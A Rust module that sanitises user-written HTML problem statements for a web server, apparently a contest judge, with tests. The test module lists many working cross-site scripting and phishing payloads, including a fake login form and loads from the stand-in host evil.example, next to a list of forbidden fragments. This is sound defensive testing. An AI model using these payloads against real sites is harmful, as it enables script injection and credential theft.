//! Statements as HTML fragments that are safe inside a page of the server.
//!
//! Authors of statements may write HTML in them. The content security policy stops scripts, styles
//! and forms that lead elsewhere. What it does not stop is removed here: refreshes, forms, elements
//! that imitate or cover the page, ids and classes that the page itself uses. Only this module
//! creates a [`CleanMarkup`], and only that is shown as HTML.

use ammonia::{Builder, UrlRelative};
use maud::Render;
use std::borrow::Cow;
use std::collections::HashSet;
use std::sync::LazyLock;

/// The prefix of all ids in a statement, so that none equals an id of the page around it.
const PREFIX: &str = "statement-";

/// HTML that contains only text, tables, pictures, maths and drawings.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct CleanMarkup(String);

impl CleanMarkup {
    /// Keeps the allowed parts of an HTML fragment.
    #[must_use]
    pub(crate) fn sanitize(html: &str) -> Self {
        Self(SANITIZER.clean(html).to_string())
    }
}

impl Render for CleanMarkup {
    fn render_to(&self, out: &mut String) {
        out.push_str(&self.0);
    }
}

static SANITIZER: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let mut builder = Builder::default();
    builder
        .rm_tags(["area", "map", "nav", "header", "footer"])
        .add_tags(["section", "tfoot"])
        .add_tags(MATHS.split(' '))
        .add_tags(DRAWINGS.split(' '))
        .add_generic_attributes(["id", "class", "dir"])
        .url_schemes(HashSet::from(["http", "https", "mailto", "data"]))
        .url_relative(UrlRelative::PassThrough)
        .id_prefix(Some(PREFIX))
        .attribute_filter(attribute);
    builder.add_tag_attributes("ol", ["type", "reversed"]);
    builder.add_tag_attributes("details", ["open"]);
    for (elements, attributes) in [(MATHS, MATHS_ATTRIBUTES), (DRAWINGS, DRAWINGS_ATTRIBUTES)] {
        for element in elements.split(' ') {
            builder.add_tag_attributes(element, attributes.split(' '));
        }
    }
    builder
});

/// The elements of `MathML` that show something and do nothing.
const MATHS: &str = "\
    annotation math menclose merror mfrac mi mmultiscripts mn mo mover mpadded mphantom \
    mprescripts mroot mrow ms mspace msqrt mstyle msub msubsup msup mtable mtd mtext mtr munder \
    munderover none semantics";

const MATHS_ATTRIBUTES: &str = "\
    accent accentunder columnalign columnlines columnspacing columnspan depth display \
    displaystyle encoding fence form frame height largeop linethickness lspace mathbackground \
    mathcolor mathsize mathvariant maxsize minsize movablelimits notation rowalign rowlines \
    rowspacing rowspan rspace scriptlevel separator stretchy symmetric voffset width";

/// The elements of SVG that draw. What refers to other files, holds HTML or moves is missing.
const DRAWINGS: &str = "\
    circle clipPath defs ellipse g line linearGradient marker path polygon polyline \
    radialGradient rect stop svg text tspan";

const DRAWINGS_ATTRIBUTES: &str = "\
    aria-label clip-path cx cy d dominant-baseline dx dy fill fill-opacity fill-rule font-family \
    font-size font-style font-weight fx fy gradientTransform gradientUnits height marker-end \
    marker-mid marker-start markerHeight markerUnits markerWidth offset opacity orient points \
    preserveAspectRatio r refX refY role rotate rx ry stop-color stop-opacity stroke \
    stroke-dasharray stroke-linecap stroke-linejoin stroke-opacity stroke-width text-anchor \
    textLength transform viewBox width x x1 x2 xml:space xmlns y y1 y2";

/// Types of pictures that a page may show; scripts in an SVG picture do not run there.
const PICTURES: [&str; 6] = ["png", "jpeg", "gif", "webp", "avif", "svg+xml"];

/// The value that an attribute gets; `None` if it is removed.
fn attribute<'v>(element: &str, name: &str, value: &'v str) -> Option<Cow<'v, str>> {
    match (element, name) {
        (_, "class") => classes(value),
        ("img", "src") => is_picture(value).then_some(Cow::Borrowed(value)),
        // Links within the statement follow its ids.
        (_, "href") if value.starts_with('#') => Some(renamed(value, "#", "")),
        (_, "href" | "cite") if is_data(value) => None,
        _ if value.to_ascii_lowercase().contains("url(") => {
            let is_own = value.starts_with("url(#") && value.ends_with(')');
            is_own.then(|| renamed(value, "url(#", ")"))
        }
        _ => Some(Cow::Borrowed(value)),
    }
}

/// A reference to an id, changed to the prefixed one.
fn renamed(value: &str, before: &str, after: &str) -> Cow<'static, str> {
    let id = value.strip_prefix(before).unwrap_or(value);
    let id = id.strip_suffix(after).unwrap_or(id);
    // Such an id is not prefixed again.
    let id = id.strip_prefix(PREFIX).unwrap_or(id);
    Cow::Owned(format!("{before}{PREFIX}{id}{after}"))
}

/// Removes classes of the page. Those of samples, of maths, of footnotes and of languages have a
/// meaning in a statement.
fn classes(value: &str) -> Option<Cow<'static, str>> {
    const KNOWN: [&str; 6] = ["sample", "figure", "note", "interaction", "sent", "limits"];
    const FAMILIES: [&str; 4] = ["language-", "footnote-", "menv-", "cell-"];
    let words = value.split_ascii_whitespace();
    let kept: Vec<&str> = words
        .filter(|word| {
            KNOWN.contains(word) || FAMILIES.iter().any(|family| word.starts_with(family))
        })
        .collect();
    (!kept.is_empty()).then(|| Cow::Owned(kept.join(" ")))
}

fn is_data(value: &str) -> bool {
    // Browsers ignore spaces at the beginning of addresses, and line breaks and tabs anywhere.
    let plain: String = value
        .chars()
        .filter(|letter| *letter > ' ')
        .take("data:".len())
        .collect();
    plain.eq_ignore_ascii_case("data:")
}

fn is_picture(value: &str) -> bool {
    let kind = value.strip_prefix("data:image/");
    let kind = kind.and_then(|rest| rest.split([';', ',']).next());
    kind.is_some_and(|kind| PICTURES.contains(&kind))
}

#[cfg(test)]
mod tests {
    use super::CleanMarkup;
    use statement::Sheet;
    use std::path::Path;
    use terms::language::Languages;

    fn cleaned(html: &str) -> String {
        CleanMarkup::sanitize(html).0
    }

    const ATTACKS: &[&str] = &[
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<b onclick=alert(1)>",
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<base href=//evil.example/>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<form action=//evil.example><input name=password><button>Log in</button></form>",
        "<input formaction=//evil.example autofocus onfocus=alert(1)>",
        "<textarea></textarea><select><option>1</select>",
        "<a href=javascript:alert(1)>",
        "<a href='JaVaScRiPt:alert(1)'>",
        "<a href='java\nscript:alert(1)'>",
        "<a href=' \u{1}javascript:alert(1)'>",
        "<a href='&#106;avascript&colon;alert(1)'>",
        "<a href=vbscript:msgbox(1)>",
        "<a href='data:text/html,<script>alert(1)</script>'>",
        "<a href=' DA\tTA:text/html;base64,PHNjcmlwdD4='>",
        "<a href=blob:https://evil.example/1>",
        "<blockquote cite=data:text/html,x>",
        "<img src='data:text/html,<script>alert(1)</script>'>",
        "<img src=/logout>",
        "<img srcset='//evil.example/x.png 1x'>",
        "<iframe src=//evil.example></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data=//evil.example></object><embed src=//evil.example>",
        "<style>body { display: none }</style>",
        "<div style='position:fixed;inset:0'>",
        "<svg><script>alert(1)</script></svg>",
        "<svg onload=alert(1)>",
        "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
        "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
        "<svg><animate attributeName=href values=javascript:alert(1)></svg>",
        "<svg><set attributeName=onload to=alert(1)></svg>",
        "<svg><image href=//evil.example/x.png></svg>",
        "<svg><style>@import '//evil.example'</style></svg>",
        "<svg><rect fill='url(//evil.example/x.svg#a)'/></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x",
        "<math href=javascript:alert(1)>x</math>",
        "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
        "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<template><script>alert(1)</script></template>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<marquee onstart=alert(1)>",
        "<video src=//evil.example autoplay></video><audio controls></audio>",
        "<frameset onload=alert(1)><frame src=//evil.example></frameset>",
        "<div data-drop class='skip main'>",
        "<dialog open>Your session has ended</dialog>",
        "<a name=form>",
        "<a href=/ target=_top ping=//evil.example>",
    ];

    /// Fragments that none of the results may contain.
    const REFUSED: &[&str] = &[
        "<script",
        "alert(1)\"",
        "onerror",
        "onload",
        "onclick",
        "ontoggle",
        "onfocus",
        "onstart",
        "<meta",
        "<base",
        "<link",
        "<form",
        "<input",
        "<button",
        "<textarea",
        "<select",
        "javascript",
        "vbscript",
        "text/html",
        "TA:",
        "blob:",
        "/logout",
        "srcset",
        "<iframe",
        "<object",
        "<embed",
        "style",
        "foreignObject",
        "<use",
        "<animate",
        "<set",
        "<image",
        "evil.example",
        "<mglyph",
        "<maction",
        "annotation-xml",
        "<noscript",
        "<template",
        "<!--",
        "<video",
        "<audio",
        "<frame",
        "data-drop",
        "skip",
        "<dialog",
        "name=",
        "target=",
    ];

    #[test]
    fn what_runs_sends_loads_or_covers_is_removed() {
        for attack in ATTACKS {
            let left = cleaned(attack);
            for part in REFUSED {
                assert!(!left.contains(part), "{part:?} of {attack} is left: {left}");
            }
            assert_eq!(cleaned(&left), left, "{attack}");
        }
    }

    #[test]
    fn ids_are_never_those_of_the_page_and_links_follow_them() {
        let html = "<h2 id=\"main\">A</h2><a href=\"#main\">to A</a>";
        assert_eq!(
            cleaned(html),
            "<h2 id=\"statement-main\">A</h2><a href=\"#statement-main\" rel=\"noopener noreferrer\">to A</a>"
        );
        let drawing =
            "<svg><marker id=\"end\"></marker><path marker-end=\"url(#end)\"></path></svg>";
        let left = cleaned(drawing);
        assert!(left.contains("id=\"statement-end\""), "{left}");
        assert!(
            left.contains("marker-end=\"url(#statement-end)\""),
            "{left}"
        );
    }

    #[test]
    fn what_statements_use_stays() {
        for html in [
            "<table><thead><tr><th>a</th></tr></thead><tbody><tr><td colspan=\"2\">b</td></tr></tbody></table>",
            "<pre><code class=\"language-python\">a &lt; b</code></pre>",
            "<div class=\"sample\"><div class=\"interaction\"><h3>x</h3><pre><span class=\"sent\">&gt; 1</span></pre></div></div>",
            "<p class=\"limits\"><span><b>Time</b> 1 s</span></p>",
            "<math display=\"block\"><semantics><mrow><msub><mi mathvariant=\"normal\">a</mi><mn>1</mn></msub><mo stretchy=\"false\">≤</mo></mrow><annotation encoding=\"application/x-tex\">a_1</annotation></semantics></math>",
            "<math><mtable class=\"menv-alignlike\"><mtr><mtd class=\"cell-left\"><mi>x</mi></mtd></mtr></mtable></math>",
            "<img src=\"data:image/png;base64,AAAA\" alt=\"a board\" width=\"20\">",
            "<svg viewBox=\"0 0 10 10\"><g transform=\"rotate(3)\"><circle cx=\"1\" cy=\"1\" r=\"1\" fill=\"red\"></circle><text x=\"1\" y=\"2\">a</text></g></svg>",
            "<details open=\"\"><summary>Hint</summary><ul><li>x</li></ul></details>",
            "<p>H<sub>2</sub>O, <em>a</em> <strong>b</strong> <kbd>c</kbd><br><del>d</del></p><hr>",
            "<a href=\"https://example.org/\" rel=\"noopener noreferrer\">there</a>",
        ] {
            assert_eq!(cleaned(html), html);
        }
    }

    /// The text between elements, without spaces.
    fn text(html: &str) -> String {
        let mut text = String::new();
        for (at, piece) in html.split('<').enumerate() {
            let is_element =
                piece.starts_with(|letter: char| letter.is_ascii_alphabetic() || letter == '/');
            match piece.split_once('>') {
                Some((_, after)) if at > 0 && is_element => text += after,
                _ if at > 0 => text.extend(["&lt;", piece]),
                _ => text += piece,
            }
        }
        for (written, meant) in [
            ("&quot;", "\""),
            ("&#39;", "'"),
            ("\u{a0}", ""),
            ("&nbsp;", ""),
            ("&gt;", ">"),
        ] {
            text = text.replace(written, meant);
        }
        text.split_whitespace().collect()
    }

    #[test]
    fn statements_of_shipped_problems_keep_their_text_tables_maths_and_pictures() {
        let problems = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../problems");
        let mut compared = 0;
        for entry in std::fs::read_dir(problems).unwrap() {
            let dir = entry.unwrap().path();
            if !dir.join("problem.toml").is_file() {
                continue;
            }
            let package = package::open(&dir, &Languages::builtin()).unwrap();
            for statement in statement::all(&package).unwrap() {
                let written = Sheet::new(&package, &statement, &[]).html(0).unwrap();
                let left = cleaned(&written);
                let place = &package.id;
                assert_eq!(text(&left), text(&written), "{place}");
                for element in [
                    "<table", "<td", "<math", "<msub", "<mo", "<img", "<svg", "<pre", "<code",
                    "<li",
                ] {
                    let count = |html: &str| html.matches(element).count();
                    assert_eq!(count(&left), count(&written), "{element} in {place}");
                }
                compared += 1;
            }
        }
        assert!(compared > 5, "{compared}");
    }
}
